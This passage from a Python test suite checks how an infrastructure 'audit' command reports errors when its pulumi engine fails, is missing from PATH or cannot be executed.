    assert_harmless(ran)


def test_a_command_of_the_engine_that_fails_is_named(account: Account, tmp_path: Path) -> None:
    """The error says which command it was, to be run by hand."""
    path = stub(tmp_path / "bin", "echo 'error: no' >&2; exit 1")
    assert_error(account.run("audit", "--stack", "a/b/c", PATH=path), "`pulumi stack export --stack a/b/c`")
    assert_error(account.run("audit", "--all-stacks", PATH=path), "`pulumi stack ls --all --json`")


@pytest.mark.parametrize("option", [("--stack", "dev"), ("--all-stacks",)])
def test_an_engine_that_cannot_be_run_is_told(account: Account, tmp_path: Path, option: tuple[str, ...]) -> None:
    """Without `pulumi`, or with one that may not be executed, it says what to do instead."""
    assert_error(account.run("audit", *option), "pulumi is not on PATH", "install it", "pulumi stack export")
    path = stub(tmp_path / "bin", "true", mode=0o644)
    assert_error(account.run("audit", *option, PATH=path), "pulumi")
